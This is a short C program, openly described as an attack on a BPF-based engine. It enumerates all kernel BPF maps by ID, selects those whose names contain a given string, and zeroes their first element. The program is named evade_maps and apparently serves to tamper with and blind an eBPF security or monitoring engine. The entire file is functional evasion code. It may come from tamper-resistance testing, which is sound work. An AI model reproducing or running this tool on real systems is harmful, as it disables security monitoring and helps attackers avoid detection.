// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * An attack on the engine bpf: clears the first element of each BPF map whose name contains TEXT. Each process that may
 * open maps by number can do this. Prints how many maps there were. usage: evade_maps TEXT
 */
#include <errno.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int call(int cmd, union bpf_attr *attr)
{
	return (int)syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

static int open_map(uint32_t id)
{
	union bpf_attr attr = { .map_id = id };

	return call(BPF_MAP_GET_FD_BY_ID, &attr);
}

static int clear(int fd, uint32_t size)
{
	void *zeroes = calloc(1, size);
	uint32_t first = 0;
	union bpf_attr attr = { .map_fd = (uint32_t)fd, .key = (uintptr_t)&first, .value = (uintptr_t)zeroes };
	int rc = call(BPF_MAP_UPDATE_ELEM, &attr);

	free(zeroes);
	return rc;
}

int main(int argc, char **argv)
{
	uint32_t id = 0;
	int found = 0;

	for (;;) {
		union bpf_attr next = { .start_id = id };
		struct bpf_map_info info = { 0 };
		union bpf_attr ask = { .info = { .info_len = sizeof(info), .info = (uintptr_t)&info } };
		int fd;

		if (argc < 2 || call(BPF_MAP_GET_NEXT_ID, &next))
			break;
		id = next.next_id;
		fd = open_map(id);
		ask.info.bpf_fd = (uint32_t)fd;
		if (fd < 0 || call(BPF_OBJ_GET_INFO_BY_FD, &ask) || !strstr(info.name, argv[1])) {
			if (fd >= 0)
				close(fd);
			continue;
		}
		if (clear(fd, info.value_size)) {
			fprintf(stderr, "%s: %s\n", info.name, strerror(errno));
			return 1;
		}
		close(fd);
		found++;
	}
	printf("%d\n", found);
	return found == 0;
}
